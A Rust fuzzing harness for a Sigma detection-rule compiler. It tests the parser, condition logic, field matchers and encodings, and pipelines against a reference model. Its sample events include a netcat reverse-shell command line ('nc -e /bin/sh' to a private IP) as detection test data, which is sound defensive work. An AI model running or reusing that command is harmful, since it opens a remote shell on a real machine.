//! What is fuzzed: functions of any bytes that must come back, and hold what they assert.

use crate::common::model::{self, Check, Item, Rule, Term};
use crate::common::{Event, matches, read, with_batch};
use picket_sigma::{File, Gravity, Options, RuleSet, Scratch, compile};
use serde_json::json;

pub type Target = fn(&[u8]);

pub const ALL: &[(&str, Target)] =
    &[("parser", parser), ("condition", condition), ("matcher", matcher), ("pipeline", pipeline)];

fn compiled(files: &[(&str, &[u8])], options: &Options) -> RuleSet {
    let files: Vec<File<'_>> = files.iter().map(|(name, content)| File { name, content }).collect();
    compile(&files, options)
}

/// Events that rules of the corpora say something about, and some that they do not expect.
fn events() -> Vec<Event> {
    let events = json!([
        {"Image": "/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444", "User": "root", "EventID": 4688, "A": 1},
        {"Image": null, "CommandLine": "", "Args": ["a", "", "\u{130}\u{212a}"], "Port": -1, "Score": 0.5, "A": 2},
        {"Args": [], "Flag": true, "User": {"unavailable": true}, "CommandLine": {"bytes": [255, 0, 195]}},
    ]);
    events.as_array().unwrap().iter().map(|e| e.as_object().unwrap().clone()).collect()
}

/// Evaluating and explaining must agree, whatever the rule.
fn evaluate(set: &RuleSet) {
    let mut scratch = Scratch::default();
    for (number, stream) in set.streams.iter().enumerate() {
        // One by one, since a column has values of one type.
        for event in events() {
            let event = std::slice::from_ref(&event);
            let hits = matches(set, number, event, true, &mut scratch).remove(0);
            with_batch(set, number, event, true, |batch| {
                for rule in &stream.rules {
                    let nodes = set.explain(*rule, batch, 0);
                    assert_eq!(nodes[0].holds, hits.contains(rule), "explanation and evaluation");
                    assert!((1..).zip(&nodes[1..]).all(|(i, n)| n.parent < i), "parents come first");
                    set.evidence(*rule, batch, 0);
                }
            });
        }
    }
}

/// A rule file of any bytes.
pub fn parser(data: &[u8]) {
    let options = Options { hygiene: true, ..Options::default() };
    let set = compiled(&[("f.yml", data)], &options);
    let lines = data.iter().filter(|b| matches!(b, b'\n' | b'\r')).count() as u32 + 1;
    for diagnostic in &set.diagnostics {
        assert!(!diagnostic.code.is_empty() && !diagnostic.message.is_empty(), "{diagnostic:?}");
        assert!(diagnostic.place.line <= lines + 1, "{diagnostic:?} of {lines} lines");
        assert_eq!((diagnostic.place.line == 0), (diagnostic.place.column == 0), "{diagnostic:?}");
    }
    for rule in &set.rules {
        assert!(!rule.id.is_empty() && !rule.title.is_empty());
    }
    if set.rules.len() <= 20 {
        evaluate(&set);
    }
    if data.len() < 500 {
        assert_eq!(set.diagnostics, compiled(&[("f.yml", data)], &options).diagnostics, "twice the same");
    }
}

const SELECTIONS: [&str; 4] = ["sel_a", "sel_b", "filter", "_x"];

/// A condition, against another reader of conditions, for every way its selections can hold.
pub fn condition(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else { return };
    let detection =
        format!("{{sel_a: {{A: 1}}, sel_b: {{B: 1}}, filter: {{C: 1}}, _x: {{D: 1}}, condition: {}}}", quoted(text));
    let rule = format!("title: t\nid: i\nlogsource: {{product: test}}\ndetection: {detection}\n");
    let set = compiled(&[("f.yml", rule.as_bytes())], &Options::default());
    if set.rules.is_empty() {
        assert!(set.diagnostics.iter().any(|d| d.gravity == Gravity::Error), "refused without a word");
        return;
    }
    let other = read::rule(&rule).unwrap_or_else(|why| panic!("{text:?} is read here, and there: {why}"));
    let mut scratch = Scratch::default();
    for held in 0..16 {
        let fields = (0..SELECTIONS.len()).filter(|i| held & (1 << i) != 0).map(|i| ["A", "B", "C", "D"][i]);
        let event: Event = fields.map(|f| (f.to_owned(), json!("1"))).collect();
        let found = matches(&set, 0, std::slice::from_ref(&event), true, &mut scratch).remove(0);
        assert_eq!(!found.is_empty(), model::matches(&other, &event), "{text:?} on {event:?}");
    }
}

/// A double-quoted scalar that every reader of YAML takes for the same text.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            ' '..='~' if !matches!(c, '"' | '\\') => out.push(c),
            c => out.push_str(&format!("\\U{:08x}", c as u32)),
        }
    }
    out + "\""
}

/// One value of a rule against one of an event, and the definition: `HOW PATTERN NUL VALUE NUL VALUE`.
pub fn matcher(data: &[u8]) {
    let Some((how, rest)) = data.split_first() else { return };
    let Ok(rest) = std::str::from_utf8(rest) else { return };
    let mut parts = rest.split('\0');
    let (Some(pattern), values) = (parts.next(), parts.collect::<Vec<_>>()) else { return };
    // The definition takes its time.
    if rest.len() > 400 || values.len() > 5 {
        return;
    }
    let how = usize::from(*how);
    let affix = ["", "contains", "startswith", "endswith"][how & 3];
    let (cased, negated, list) = (how & 4 != 0, how & 8 != 0, how & 16 != 0);
    let (field, modifier) = match how >> 5 {
        0 | 1 => ("F", ""),
        2 => ("", ""),
        3 => ("F", "re"),
        4 => ("F", "cidr"),
        5 => ("F", "fieldref"),
        6 => ("F", "re|i|m|s"),
        _ => return encodings(how, pattern, &values),
    };
    let (affix, cased) = match modifier {
        "" if field.is_empty() => ("", cased),
        "" | "fieldref" => (affix, cased),
        _ => ("", false),
    };
    let check = match modifier {
        "" => Check::Text(pattern.to_owned()),
        "cidr" => Check::Cidr(pattern.to_owned()),
        "fieldref" => Check::Same("G".to_owned()),
        flags => Check::Regex(pattern.to_owned(), flags[2..].replace('|', "")),
    };
    let written = if modifier == "fieldref" { "G" } else { pattern };
    let (affix_key, cased_key) = (joined(affix), if cased { "|cased" } else { "" });
    let key = format!("{field}{}{affix_key}{cased_key}{}", joined(modifier), if negated { "|neq" } else { "" });
    let rule = one_item(&key, written);
    let set = compiled(&[("f.yml", rule.as_bytes())], &Options::default());
    if set.rules.is_empty() {
        assert!(set.diagnostics.iter().any(|d| d.gravity == Gravity::Error), "refused without a word");
        return;
    }
    let mut event = Event::new();
    match values.as_slice() {
        [] => {}
        [one] if !list => drop(event.insert("F".to_owned(), json!(one))),
        more => drop(event.insert("F".to_owned(), json!(more))),
    }
    if modifier == "fieldref" {
        event.insert("G".to_owned(), json!(pattern));
    }
    let item =
        Item { field: field.to_owned(), affix: affix.to_owned(), cased, checks: vec![check], all: false, negated };
    let definition = Rule { selections: vec![vec![vec![item]]], conditions: vec![Term::Selection(0)] };
    for dictionary in [false, true] {
        let found = matches(&set, 0, std::slice::from_ref(&event), dictionary, &mut Scratch::default()).remove(0);
        assert_eq!(!found.is_empty(), model::matches(&definition, &event), "{rule} on {event:?}");
    }
}

fn joined(modifier: &str) -> String {
    if modifier.is_empty() { String::new() } else { format!("|{modifier}") }
}

fn one_item(key: &str, value: &str) -> String {
    let detection = format!("{{s: {{{}: {}}}, condition: s}}", quoted(key), quoted(value));
    format!("title: t\nid: i\nlogsource: {{product: test}}\ndetection: {detection}\n")
}

/// What turns a value into others has no other definition here: it must come back, and agree with its explanation.
fn encodings(how: usize, pattern: &str, values: &[&str]) {
    let modifiers =
        ["windash", "base64", "base64offset", "wide|base64offset", "utf16", "utf16be|base64", "windash|all"];
    let modifier = modifiers[(how & 7) % modifiers.len()];
    let set =
        compiled(&[("f.yml", one_item(&format!("F|{modifier}|contains"), pattern).as_bytes())], &Options::default());
    let event: Event = [("F".to_owned(), json!(values))].into_iter().collect();
    if !set.rules.is_empty() {
        let found = matches(&set, 0, std::slice::from_ref(&event), true, &mut Scratch::default()).remove(0);
        with_batch(&set, 0, std::slice::from_ref(&event), true, |batch| {
            assert_eq!(set.explain(0, batch, 0)[0].holds, !found.is_empty());
        });
    }
}

const MAPPED: &str = "title: t
id: a
logsource: {category: process_creation, product: linux}
detection:
  s: {Image|endswith: /nc, CommandLine|contains|all: [a, b], User|neq: root, A: null}
  t: [{Image: [x, null]}, {B|fieldref: A, User|expand: '%p%'}]
  k: [word]
  condition: s and (t or not k)
fields: [Image]
---
title: u
id: b
logsource: {product: test}
detection: {s: {Image: x, Initiated: 'true'}, condition: s}
";

/// A pipeline of any bytes: it is used as a whole or not at all.
pub fn pipeline(data: &[u8]) {
    let files = [("p.pipeline.yml", data), ("r.yml", MAPPED.as_bytes())];
    let placeholders = || [("p".to_owned(), vec!["x".to_owned()])].into();
    let plain = compiled(&files, &Options { placeholders: placeholders(), ..Options::default() });
    let options = Options { pipelines: vec!["p".to_owned()], placeholders: placeholders(), ..Options::default() };
    let mapped = compiled(&files, &options);
    assert_eq!(plain.rules.len(), 2);
    let bad = |set: &RuleSet, file: &str| set.diagnostics.iter().any(|d| d.gravity == Gravity::Error && d.file == file);
    if bad(&mapped, "p.pipeline.yml") {
        assert!(mapped.diagnostics.iter().any(|d| d.code == "pipeline-refused"));
        assert_eq!(mapped.rules.len(), 2, "rules stay");
        for (a, b) in mapped.streams.iter().zip(&plain.streams) {
            assert_eq!((&a.source, &a.fields), (&b.source, &b.fields), "rules stay as they are");
        }
    } else {
        assert!(mapped.rules.len() == 2 || bad(&mapped, "r.yml"), "a rule is gone without a word");
    }
    evaluate(&mapped);
}
